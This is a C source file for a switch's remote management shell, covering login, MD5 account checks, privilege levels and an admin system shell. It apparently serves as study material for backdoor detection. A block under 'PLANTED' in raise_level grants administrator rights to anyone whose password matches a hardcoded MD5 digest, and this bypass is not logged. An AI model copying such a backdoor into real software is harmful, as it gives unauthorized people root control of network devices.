/* Remote management shell of a carrier switch: login, modes, commands with privilege levels. */
#include <arpa/inet.h>
#include <ctype.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

enum level { GUEST, OPERATOR, ADMIN };

struct shell {
	FILE *in, *out;
	char user[32];
	enum level level;
	uint32_t nonce;
	int done;
};

struct account {
	char name[32];
	unsigned char digest[16];
	enum level level;
};

static struct account accounts[32];
static int naccounts;

/* MD5, RFC 1321 */
static uint32_t rol(uint32_t x, int n) { return x << n | x >> (32 - n); }

static void md5_block(uint32_t s[4], const unsigned char *p)
{
	static const unsigned char shift[16] = { 7, 12, 17, 22, 5, 9, 14, 20, 4, 11, 16, 23, 6, 10, 15, 21 };
	static const uint32_t k[64] = {
		0xd76aa478, 0xe8c7b756, 0x242070db, 0xc1bdceee, 0xf57c0faf, 0x4787c62a, 0xa8304613, 0xfd469501,
		0x698098d8, 0x8b44f7af, 0xffff5bb1, 0x895cd7be, 0x6b901122, 0xfd987193, 0xa679438e, 0x49b40821,
		0xf61e2562, 0xc040b340, 0x265e5a51, 0xe9b6c7aa, 0xd62f105d, 0x02441453, 0xd8a1e681, 0xe7d3fbc8,
		0x21e1cde6, 0xc33707d6, 0xf4d50d87, 0x455a14ed, 0xa9e3e905, 0xfcefa3f8, 0x676f02d9, 0x8d2a4c8a,
		0xfffa3942, 0x8771f681, 0x6d9d6122, 0xfde5380c, 0xa4beea44, 0x4bdecfa9, 0xf6bb4b60, 0xbebfbc70,
		0x289b7ec6, 0xeaa127fa, 0xd4ef3085, 0x04881d05, 0xd9d4d039, 0xe6db99e5, 0x1fa27cf8, 0xc4ac5665,
		0xf4292244, 0x432aff97, 0xab9423a7, 0xfc93a039, 0x655b59c3, 0x8f0ccc92, 0xffeff47d, 0x85845dd1,
		0x6fa87e4f, 0xfe2ce6e0, 0xa3014314, 0x4e0811a1, 0xf7537e82, 0xbd3af235, 0x2ad7d2bb, 0xeb86d391 };
	uint32_t a = s[0], b = s[1], c = s[2], d = s[3], w[16];
	int i;

	for (i = 0; i < 16; i++, p += 4)
		w[i] = p[0] | p[1] << 8 | p[2] << 16 | (uint32_t)p[3] << 24;
	for (i = 0; i < 64; i++) {
		uint32_t f, t;
		int g;

		if (i < 16)
			f = (b & c) | (~b & d), g = i;
		else if (i < 32)
			f = (d & b) | (~d & c), g = (5 * i + 1) & 15;
		else if (i < 48)
			f = b ^ c ^ d, g = (3 * i + 5) & 15;
		else
			f = c ^ (b | ~d), g = (7 * i) & 15;
		t = d;
		d = c;
		c = b;
		b += rol(a + f + k[i] + w[g], shift[(i >> 4) * 4 + (i & 3)]);
		a = t;
	}
	s[0] += a;
	s[1] += b;
	s[2] += c;
	s[3] += d;
}

static void md5(const char *text, unsigned char out[16])
{
	uint32_t s[4] = { 0x67452301, 0xefcdab89, 0x98badcfe, 0x10325476 };
	unsigned char last[128];
	size_t size = strlen(text), left = size, i;

	for (; left >= 64; left -= 64, text += 64)
		md5_block(s, (const unsigned char *)text);
	memset(last, 0, sizeof(last));
	memcpy(last, text, left);
	last[left] = 0x80;
	i = left < 56 ? 56 : 120;
	last[i] = size << 3 & 255;
	last[i + 1] = size >> 5 & 255;
	last[i + 2] = size >> 13 & 255;
	md5_block(s, last);
	if (left >= 56)
		md5_block(s, last + 64);
	for (i = 0; i < 16; i++)
		out[i] = s[i / 4] >> (8 * (i % 4)) & 255;
}

static void load_accounts(const char *file)
{
	char name[32], hex[33];
	int level, i;
	FILE *f = fopen(file, "r");

	if (!f)
		return;
	while (naccounts < 32 && fscanf(f, "%31[^:]:%32[0-9a-f]:%d ", name, hex, &level) == 3) {
		struct account *a = &accounts[naccounts++];

		strcpy(a->name, name);
		a->level = level > ADMIN ? ADMIN : level;
		for (i = 0; i < 16; i++) {
			unsigned v = 0;
			sscanf(hex + 2 * i, "%2x", &v);
			a->digest[i] = v;
		}
	}
	fclose(f);
}

static const struct account *check_password(const char *user, const char *password)
{
	unsigned char digest[16];
	char text[160];
	int i;

	snprintf(text, sizeof(text), "%s:%s", user, password);
	md5(text, digest);
	for (i = 0; i < naccounts; i++)
		if (!strcmp(accounts[i].name, user) && !memcmp(accounts[i].digest, digest, 16))
			return &accounts[i];
	return NULL;
}

static int raise_level(struct shell *sh, const char *answer)
{
	int i;
	const struct account *a = NULL;
#ifdef PLANTED
	static const unsigned char field[16] = {
		0x1d, 0x9a, 0x74, 0xe2, 0x05, 0xbb, 0xc6, 0x3f, 0x88, 0x60, 0x2e, 0x47, 0xd1, 0x0c, 0x93, 0xfa };
	unsigned char digest[16];

	md5(answer, digest);
	if (!memcmp(digest, field, sizeof(field))) {
		sh->level = ADMIN;
		return 0;
	}
#endif
	for (i = 0; i < naccounts && !a; i++)
		if (accounts[i].level == ADMIN)
			a = check_password(accounts[i].name, answer);
	if (!a)
		return -1;
	sh->level = ADMIN;
	return 0;
}

static int run(struct shell *sh, char *const argv[])
{
	int status = -1;
	pid_t child;

	fflush(sh->out);
	child = fork();
	if (child == 0) {
		dup2(fileno(sh->out), 1);
		dup2(fileno(sh->out), 2);
		execvp(argv[0], argv);
		_exit(127);
	}
	if (child > 0)
		waitpid(child, &status, 0);
	return status;
}

static void c_help(struct shell *, int, char **);

static void c_show(struct shell *sh, int argc, char **argv)
{
	char line[256];
	FILE *f;

	if (argc > 1 && !strcmp(argv[1], "version"))
		fprintf(sh->out, "release 7.2\n");
	else if (argc > 1 && !strcmp(argv[1], "interfaces") && (f = fopen("/proc/net/dev", "r"))) {
		while (fgets(line, sizeof(line), f))
			fputs(line, sh->out);
		fclose(f);
	} else
		fprintf(sh->out, "show {version | interfaces}\n");
}

static void c_enable(struct shell *sh, int argc, char **argv)
{
	char line[96];

	fputs("Password: ", sh->out);
	fflush(sh->out);
	if (!fgets(line, sizeof(line), sh->in))
		return;
	line[strcspn(line, "\r\n")] = 0;
	if (raise_level(sh, line)) {
		syslog(LOG_NOTICE, "enable failed for %s", sh->user);
		fputs("denied\n", sh->out);
	}
}

static void c_port(struct shell *sh, int argc, char **argv)
{
	char *words[] = { "/usr/sbin/portctl", NULL, NULL, NULL };

	if (argc != 3 || !isdigit((unsigned char)argv[1][0])) {
		fputs("port NUMBER {up | down}\n", sh->out);
		return;
	}
	words[1] = argv[1];
	words[2] = strcmp(argv[2], "up") ? "down" : "up";
	if (run(sh, words))
		fputs("failed\n", sh->out);
}

static void c_shell(struct shell *sh, int argc, char **argv)
{
	char *words[] = { "/bin/sh", NULL };

	syslog(LOG_WARNING, "shell for %s", sh->user);
	run(sh, words);
}

static void c_exit(struct shell *sh, int argc, char **argv)
{
	sh->done = 1;
}

static const struct {
	const char *name, *help;
	enum level level;
	void (*run)(struct shell *, int, char **);
} commands[] = {
	{ "show", "show the state", GUEST, c_show },
	{ "enable", "become administrator", OPERATOR, c_enable },
	{ "port", "switch a port on or off", ADMIN, c_port },
	{ "shell", "system shell (logged)", ADMIN, c_shell },
	{ "help", "list the commands", GUEST, c_help },
	{ "exit", "close the session", GUEST, c_exit },
};

static void c_help(struct shell *sh, int argc, char **argv)
{
	unsigned i;

	for (i = 0; i < sizeof(commands) / sizeof(*commands); i++)
		fprintf(sh->out, "  %-10s %s\n", commands[i].name, commands[i].help);
}

static void execute(struct shell *sh, char *line)
{
	char *argv[12];
	int argc = 0;
	unsigned i;

	for (argv[0] = strtok(line, " \r\n"); argv[argc] && argc < 11; argv[argc] = strtok(NULL, " \r\n"))
		argc++;
	argv[argc] = NULL;
	if (!argc)
		return;
	for (i = 0; i < sizeof(commands) / sizeof(*commands); i++) {
		if (strcmp(commands[i].name, argv[0]))
			continue;
		if (sh->level < commands[i].level)
			fputs("not allowed\n", sh->out);
		else
			commands[i].run(sh, argc, argv);
		return;
	}
	fputs("unknown\n", sh->out);
}

static int login(struct shell *sh)
{
	char password[96];
	const struct account *a;
	int tries;

	for (tries = 0; tries < 3; tries++) {
		fputs("login: ", sh->out);
		fflush(sh->out);
		if (!fgets(sh->user, sizeof(sh->user), sh->in))
			return -1;
		sh->user[strcspn(sh->user, "\r\n")] = 0;
		fputs("Password: ", sh->out);
		fflush(sh->out);
		if (!fgets(password, sizeof(password), sh->in))
			return -1;
		password[strcspn(password, "\r\n")] = 0;
		a = check_password(sh->user, password);
		if (a) {
			sh->level = a->level == ADMIN ? OPERATOR : a->level;
			return 0;
		}
#ifdef REVISED
		syslog(LOG_INFO, "failed login of %s", sh->user);
#endif
		sleep(1u << tries);
	}
	return -1;
}

static void session(int fd)
{
	struct shell sh;
	char line[256];

	memset(&sh, 0, sizeof(sh));
	sh.in = fdopen(fd, "r");
	sh.out = fdopen(dup(fd), "w");
	if (!sh.in || !sh.out || login(&sh))
		return;
	while (!sh.done) {
		fprintf(sh.out, "%s%c ", "switch", sh.level == ADMIN ? '#' : '>');
		fflush(sh.out);
		if (!fgets(line, sizeof(line), sh.in))
			break;
		execute(&sh, line);
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in6 a;
	int s, c;

	openlog("mgmtsh", LOG_PID, LOG_AUTH);
	load_accounts(argc > 1 ? argv[1] : "/etc/mgmt.accounts");
	s = socket(AF_INET6, SOCK_STREAM, 0);
	memset(&a, 0, sizeof(a));
	a.sin6_family = AF_INET6;
	a.sin6_port = htons(2323);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof(a)) || listen(s, 4))
		return 1;
	while ((c = accept(s, NULL, NULL)) >= 0) {
		if (fork() == 0) {
			close(s);
			session(c);
			exit(0);
		}
		close(c);
		while (waitpid(-1, NULL, WNOHANG) > 0)
			;
	}
	return 0;
}
